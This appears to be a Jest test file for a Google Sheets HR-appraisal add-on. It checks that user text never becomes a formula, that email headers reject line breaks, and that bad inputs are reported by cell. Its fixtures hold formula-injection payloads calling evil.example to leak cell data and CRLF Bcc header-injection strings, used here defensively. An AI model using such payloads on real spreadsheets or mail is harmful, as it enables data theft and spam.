// Issue 11 items 4 and 5 through the built bundle in the emulator, each reproduction as the issue
// tells it: no text the add-on writes becomes a formula, typed inputs are written back as they
// were, no value reaches an email header with a line break, and every bad input gets a message
// naming its cell.
import * as fs from 'fs';
import {
  type Harness,
  KEPALA,
  PERIODE,
  fillWorkbook,
  newHarness,
  nipOf,
  outboxMails,
  sheetValues,
} from '../email/harness';
import {setSetting, sheet} from '../support/workbook';
import type {Issue} from '../../src/core/types';

const TAB = `Penilaian ${PERIODE} ${KEPALA.nip}`;
const EVIL_NAME = '=HYPERLINK("http://evil.example/?"&B2,"x")';
const REALISASI = 9;
const ALASAN = 13;

type Row = unknown[];

function fresh(): Harness {
  const h = newHarness();
  fillWorkbook(h);
  return h;
}

/** Runs an API call as its own execution (locks released, as between two clicks). */
function run<T>(h: Harness, call: () => T): T {
  const out = call();
  h.emulator.endExecution(h.ctx);
  return out;
}

function issuesOf(h: Harness): (Issue & {text: string})[] {
  return run(h, () => h.ctx.apiValidate()).issues;
}

/** 1-based row of a person's row in a sheet (NIP in column 2, Kode in column 5 for tabs). */
function rowOf(rows: Row[], nip: string, kode?: string): number {
  const i = rows.findIndex(
    r =>
      (r[1] === nip || r[0] === nip) && (kode === undefined || r[4] === kode),
  );
  if (i < 0) throw new Error(`no row ${nip} ${kode ?? ''}`);
  return i + 1;
}

function allFormulas(h: Harness, name: string): string[] {
  return sheet(h.emulator, name)
    .getDataRange()
    .getFormulas()
    .flat()
    .filter(f => f !== '');
}

describe('no text becomes a formula', () => {
  it('a name typed as text stays text in the tab, Hasil and everywhere else', () => {
    const h = fresh();
    const pegawai = sheet(h.emulator, 'Pegawai');
    const r = rowOf(pegawai.getDataRange().getValues(), nipOf(2));
    // Typed as a person would: the apostrophe makes it text in the cell.
    pegawai.getRange(r, 2).setValue(`'${EVIL_NAME}`);
    expect(pegawai.getRange(r, 2).getValue()).toBe(EVIL_NAME);
    // Indicator texts too (Indikator column D, Satuan column E).
    const indikator = sheet(h.emulator, 'Indikator');
    indikator.getRange(2, 4).setValue('\'=IMAGE("http://evil.example/?"&B2)');
    indikator.getRange(2, 5).setValue("'+dokumen");
    // A new tab (the fixture's is plain text throughout): only what the writer formats is text.
    const ss = h.ctx.SpreadsheetApp.getActiveSpreadsheet();
    ss.deleteSheet(ss.getSheetByName(TAB));
    const tabs = run(h, () => h.ctx.apiStartTabs(PERIODE));
    expect(tabs.ok).toBe(true);
    run(h, () => h.ctx.apiRecompute(PERIODE));
    for (const name of h.ctx.SpreadsheetApp.getActiveSpreadsheet()
      .getSheets()
      .map((s: GoogleAppsScript.Spreadsheet.Sheet) => s.getName()))
      expect([name, allFormulas(h, name)]).toEqual([name, []]);
    const tab = sheetValues(h.emulator, TAB);
    const i = rowOf(tab, nipOf(2), 'I1') - 1;
    expect(tab[i][2]).toBe(EVIL_NAME);
    expect(tab[i][5]).toBe('=IMAGE("http://evil.example/?"&B2)');
    expect(tab[i][6]).toBe('+dokumen');
    const hasil = sheetValues(h.emulator, 'Hasil');
    expect(hasil[rowOf(hasil, nipOf(2)) - 1][2]).toBe(EVIL_NAME);
    // And HR is told, at the cell.
    expect(issuesOf(h).map(x => x.text)).toContainEqual(
      expect.stringMatching(new RegExp(`^Pegawai!B${r}: Nama diawali "="`)),
    );
  });

  it('a typed text and a real formula in a tab are written back as they were on refresh', () => {
    const h = fresh();
    const tab = sheet(h.emulator, TAB);
    const rows = tab.getDataRange().getValues();
    const hk = rowOf(rows, nipOf(2), 'HK');
    const i1 = rowOf(rows, nipOf(2), 'I1');
    // Alasan and Realisasi as HR leaves them: automatic format (not '@').
    tab.getRange(2, REALISASI, rows.length - 1, 5).setNumberFormat('0.###');
    tab.getRange(hk, ALASAN).setValue("'=Tidak sesuai target utama");
    tab.getRange(i1, REALISASI).setFormula('=5+5');
    // A change that makes the refresh rewrite the tab: a new name.
    const pegawai = sheet(h.emulator, 'Pegawai');
    pegawai
      .getRange(rowOf(pegawai.getDataRange().getValues(), nipOf(2)), 2)
      .setValue('Dedi K.');
    expect(run(h, () => h.ctx.apiStartTabs(PERIODE)).ok).toBe(true);
    const after = sheet(h.emulator, TAB);
    const rows2 = after.getDataRange().getValues();
    const hk2 = rowOf(rows2, nipOf(2), 'HK');
    expect(rows2[hk2 - 1][2]).toBe('Dedi K.');
    expect(after.getRange(hk2, ALASAN).getFormula()).toBe('');
    expect(after.getRange(hk2, ALASAN).getValue()).toBe(
      '=Tidak sesuai target utama',
    );
    expect(
      after.getRange(rowOf(rows2, nipOf(2), 'I1'), REALISASI).getFormula(),
    ).toBe('=5+5');
  });
});

describe('email headers', () => {
  it('an Email HR with CR/LF stops sending with a message naming the cell: nothing is sent', () => {
    const h = fresh();
    setSetting(h.emulator, 'Email HR', 'hr@x.id\r\nBcc: evil@x.example');
    const status = run(h, () => h.ctx.apiStartSend(PERIODE, false));
    expect(status.state).toBe('error');
    expect(status.message).toMatch(
      /^Pengiriman tidak dimulai: Email HR di Pengaturan!B\d+ tidak valid \("hr@x\.id Bcc: evil@x\.example"\)/,
    );
    expect(fs.readdirSync(h.outbox)).toEqual([]);
    expect(sheetValues(h.emulator, 'Log Email').length).toBeLessThanOrEqual(1);
    const test = run(h, () => h.ctx.apiTestSend(PERIODE, nipOf(2)));
    expect(test.ok).toBe(false);
    expect(fs.readdirSync(h.outbox)).toEqual([]);
    // Fixed: the same job goes on and sends.
    setSetting(h.emulator, 'Email HR', 'hr@example.go.id');
    expect(run(h, () => h.ctx.apiStartSend(PERIODE, false)).state).toBe('done');
    expect(outboxMails(h.outbox).length).toBeGreaterThan(0);
  });

  it('a sender name or subject with CR/LF adds no header', () => {
    const h = fresh();
    setSetting(h.emulator, 'Nama Instansi', 'Dinas\r\nBcc: evil@x.example');
    const template = sheet(h.emulator, 'Template Email');
    const rows = template.getDataRange().getValues();
    const subjek = rows.findIndex(r => r[0] === 'Subjek') + 1;
    template
      .getRange(subjek, 2)
      .setValue('Umpan balik {{Periode}}\r\nBcc: evil@x.example');
    expect(run(h, () => h.ctx.apiStartSend(PERIODE, false)).state).toBe('done');
    const mails = outboxMails(h.outbox);
    expect(mails.length).toBeGreaterThan(0);
    for (const mail of mails) {
      expect(mail.headers.bcc).toBeUndefined();
      expect(mail.headers.subject).toBe(
        `Umpan balik ${PERIODE} Bcc: evil@x.example`,
      );
    }
  });

  it('an unknown placeholder is named at validate and preview, and nothing is sent', () => {
    const h = fresh();
    const template = sheet(h.emulator, 'Template Email');
    const rows = template.getDataRange().getValues();
    const isi = rows.findIndex(r => r[0] === 'Isi') + 1;
    template.getRange(isi, 2).setValue('Gaji Anda: {{Gaji}}. {{Nama}}');
    expect(issuesOf(h).map(x => x.text)).toContainEqual(
      expect.stringMatching(
        new RegExp(
          `^Template Email!B${isi}: Placeholder tidak dikenal: \\{\\{Gaji\\}\\}; email tidak dikirim`,
        ),
      ),
    );
    const preview = run(h, () => h.ctx.apiPreviewEmail(PERIODE, nipOf(2)));
    expect(preview.warnings.join(' ')).toContain('{{Gaji}}');
    const status = run(h, () => h.ctx.apiStartSend(PERIODE, false));
    expect(status.state).toBe('error');
    expect(status.message).toContain(`Template Email!B${isi}`);
    expect(status.message).toContain('{{Gaji}}');
    expect(fs.readdirSync(h.outbox)).toEqual([]);
  });
});

describe('every bad input gets a message naming its cell', () => {
  it('merged cells in a tab: reported, the tab neither unmerged nor overwritten', () => {
    const h = fresh();
    const tab = sheet(h.emulator, TAB);
    const before = tab.getRange('I2:I6').getValues();
    tab.getRange('I2:I6').merge();
    const merged = tab.getRange('I2:I6').getValues();
    expect(merged.slice(1).flat()).toEqual(['', '', '', '']);
    expect(merged[0]).toEqual(before[0]);
    expect(issuesOf(h).map(x => x.text)).toContainEqual(
      expect.stringMatching(new RegExp(`^${TAB}!I2: Sel digabung \\(I2:I6\\)`)),
    );
    // A change that would rewrite the tab: refused, the merge and the values left as they are.
    const pegawai = sheet(h.emulator, 'Pegawai');
    pegawai
      .getRange(rowOf(pegawai.getDataRange().getValues(), nipOf(2)), 2)
      .setValue('Dedi K.');
    const tabs = run(h, () => h.ctx.apiStartTabs(PERIODE));
    expect(tabs.ok).toBe(false);
    expect(tabs.message).toContain('I2:I6');
    const after = sheet(h.emulator, TAB);
    expect(after.getRange('I1:I20').getMergedRanges()).toHaveLength(1);
    expect(after.getRange('I2:I6').getValues()).toEqual(merged);
  });

  it('merged cells in an input sheet are reported', () => {
    const h = fresh();
    sheet(h.emulator, 'Pegawai').getRange('C3:C4').merge();
    expect(issuesOf(h).map(x => x.text)).toContainEqual(
      expect.stringMatching(/^Pegawai!C3: Sel digabung \(C3:C4\)/),
    );
  });

  it('negative realisasi: named, and the person is not rated', () => {
    const h = fresh();
    const tab = sheet(h.emulator, TAB);
    const r = rowOf(tab.getDataRange().getValues(), nipOf(2), 'I1');
    tab.getRange(r, REALISASI).setValue(-5);
    expect(issuesOf(h).map(x => x.text)).toContain(
      `${TAB}!I${r}: Realisasi negatif (-5): capaian tidak dihitung; ketik 0 atau lebih`,
    );
    run(h, () => h.ctx.apiRecompute(PERIODE));
    const hasil = sheetValues(h.emulator, 'Hasil');
    const row = hasil[rowOf(hasil, nipOf(2)) - 1];
    expect(row[11]).toBe('Belum lengkap');
    expect(row[9]).toBe('');
  });

  it('a date typed as realisasi is shown as the person typed it', () => {
    const h = fresh();
    h.ctx.SpreadsheetApp.getActiveSpreadsheet().setSpreadsheetLocale('id_ID');
    const tab = sheet(h.emulator, TAB);
    const r = rowOf(tab.getDataRange().getValues(), nipOf(2), 'I1');
    tab.getRange(r, REALISASI).setNumberFormat('0.###');
    tab.getRange(r, REALISASI).setValue('14/03/2026');
    expect(tab.getRange(r, REALISASI).getValue()).toBeInstanceOf(Date);
    expect(issuesOf(h).map(x => x.text)).toContain(
      `${TAB}!I${r}: Realisasi berisi tanggal ("14/03/2026"), bukan angka: ketik angkanya (format sel sebagai angka)`,
    );
  });

  it('a formula error in an input is named, not read as "not filled"', () => {
    const h = fresh();
    const tab = sheet(h.emulator, TAB);
    const r = rowOf(tab.getDataRange().getValues(), nipOf(2), 'I1');
    // What Sheets holds for =1/0 (the emulator does not evaluate formulas).
    const model = h.emulator.workbook.sheets.find(s => s.name === TAB)!;
    model.set('formula', r, REALISASI, '=1/0');
    model.set('value', r, REALISASI, '#DIV/0!');
    expect(issuesOf(h).map(x => x.text)).toContain(
      `${TAB}!I${r}: Realisasi berisi galat rumus #DIV/0!: dibaca kosong sampai rumusnya diperbaiki`,
    );
  });

  it('a blank name is an error at its cell', () => {
    const h = fresh();
    const pegawai = sheet(h.emulator, 'Pegawai');
    const r = rowOf(pegawai.getDataRange().getValues(), nipOf(2));
    pegawai.getRange(r, 2).setValue('');
    const found = issuesOf(h).find(x => x.text.startsWith(`Pegawai!B${r}:`));
    expect(found).toMatchObject({
      level: 'Galat',
      text: `Pegawai!B${r}: Nama kosong`,
    });
  });

  it('a NIP stored as a number keeps its row out of Hasil', () => {
    const h = fresh();
    run(h, () => h.ctx.apiRecompute(PERIODE));
    const pegawai = sheet(h.emulator, 'Pegawai');
    const r = rowOf(pegawai.getDataRange().getValues(), nipOf(2));
    pegawai.getRange(r, 1).setValue(Number(nipOf(2)));
    const changed = BigInt(Number(nipOf(2))).toString();
    expect(issuesOf(h).map(x => x.text)).toContainEqual(
      expect.stringMatching(
        new RegExp(`^Pegawai!A${r}: NIP tersimpan sebagai angka`),
      ),
    );
    run(h, () => h.ctx.apiRecompute(PERIODE));
    const nips = sheetValues(h.emulator, 'Hasil').map(row => String(row[1]));
    expect(nips).not.toContain(changed);
    expect(nips.filter(n => n === nipOf(2))).toHaveLength(0);
  });
});
